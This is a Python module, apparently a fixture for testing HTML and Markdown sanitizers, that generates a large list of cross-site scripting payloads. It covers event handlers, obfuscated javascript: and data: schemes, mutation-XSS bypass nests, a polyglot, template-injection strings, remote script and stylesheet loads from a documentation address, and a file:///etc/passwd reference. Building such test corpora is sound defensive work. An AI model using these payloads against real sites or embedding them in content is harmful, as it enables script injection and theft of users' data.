"""Texts that try to become more than text: in HTML, in Markdown, in a link, in a style.

Made from the kinds that public collections name (tags, event handlers, schemes, ways to hide them,
Markdown that turns into any of these), each combined with the others where that makes sense. Every
one calls `alert`, or fetches from 192.0.2.1, an address that is kept for documentation.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

FAR = "http://192.0.2.1"

_HANDLERS = (
    "onerror onload onclick onfocus onmouseover onmouseenter onpointerover ontoggle "
    "onanimationstart onbegin oninput onstart onwheel onhashchange"
).split()
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "select autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "marquee",
    "iframe src=about:blank",
    "object data=x",
    "a href=#",
    "x",
    "math",
    "style",
)
_SCHEMES = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java\tscript:alert({n})",
    "java&#10;script:alert({n})",
    "&#106;avascript:alert({n})",
    "&#x6A&#x61&#x76&#x61script:alert({n})",
    "\x01javascript:alert({n})",
    "vbscript:msgbox({n})",
    "data:text/html,<script>alert({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert({n})>",
    "blob:{far}/{n}",
    "file:///etc/passwd",
    "{far}/{n}",
    "//192.0.2.1/{n}",
    "http:{n}.192.0.2.1.nip.io",
)
_IN_HTML = (
    '<a href="{url}">read on</a>',
    "<img src='{url}'>",
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>Go</button></form>',
    '<link rel=stylesheet href="{url}">',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<base href="{url}">',
    '<svg><a xlink:href="{url}"><text y=20>read</text></a></svg>',
    '<svg><image href="{url}"/></svg>',
    '<svg><use href="{url}"/></svg>',
    '<math href="{url}">read</math>',
    '<video poster="{url}"></video>',
    '<div style="background:url({url})">read</div>',
)
_IN_MARKDOWN = (
    "[read on]({url})",
    "[read on](<{url}>)",
    "![picture]({url})",
    "![picture][far]\n\n[far]: {url}",
    "[![picture]({url})]({url})",
    "<{url}>",
    "[read on]({url} 'title')",
    "# [read on]({url})",
    "| a |\n| - |\n| ![p]({url}) |",
    "- ![p]({url})",
    "> ![p]({url})",
    ":material/[x]({url}):",
    ":red[![p]({url})]",
    "$\\href{{{url}}}{{x}}$",
    "$\\includegraphics{{{url}}}$",
)
_WRAPPED = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src={far}/{n}.js></script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "</p></blockquote><script>{js}</script>",
    '"><script>{js}</script>',
    "'><svg/onload={js}>",
    "--><svg/onload={js}>",
    "]]><svg/onload={js}>",
    "</title><svg/onload={js}>",
    "</style><svg/onload={js}>",
    "</textarea><svg/onload={js}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<template><img src=x onerror={js}></template>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    "<path id='</style><img onerror={js} src>'>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{js}>",
    "<style>@import '{far}/{n}.css';</style>",
    "<style>*{{background:url({far}/{n})}}</style>",
    "<style>@font-face{{font-family:x;src:url({far}/{n})}}</style>",
    "<div style='animation-name:x' onanimationstart={js}>",
    "<button popovertarget=x onclick={js}>Press</button>",
    "<button data-sb-act='bad:0'>Press</button>",
    "<div data-sb-copy='stolen'>Press</div>",
    "<input type=image src={far}/{n} onerror={js}>",
    "<isindex type=image src=1 onerror={js}>",
    "<img srcset='{far}/{n} 1x'>",
    "<img src=x:alert({n}) onerror=eval(src)>",
    "<img src='x' `onerror={js}`>",
    "<img/src='x'/onerror={js}>",
    "<img src=x onerror\n={js}>",
    "<img src=x onerror&#61;{js}>",
    "%3Cscript%3E{js}%3C/script%3E",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{js}",
    "＜script＞{js}＜/script＞",
    "<\u200bscript>{js}</script>",
    "<script\u2028>{js}</script>",
    "\u202e<script>{js}</script>",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "<%= {js} %>",
    "{{% raw %}}<script>{js}</script>{{% endraw %}}",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{js}//'>",
)


def payloads() -> Iterator[str]:
    """All of them, each once, always in the same order; each with a number of its own."""
    made: dict[str, None] = {}
    for form in _WRAPPED:
        made.setdefault(form.format(js=f"alert({len(made)})", n=len(made), far=FAR))
    for tag, handler in product(_TAGS, _HANDLERS):
        made.setdefault(f"<{tag} {handler}=alert({len(made)})>")
    for form, scheme in product((*_IN_HTML, *_IN_MARKDOWN), _SCHEMES):
        url = scheme.format(n=len(made), far=FAR)
        made.setdefault(form.format(url=url))
    yield from made
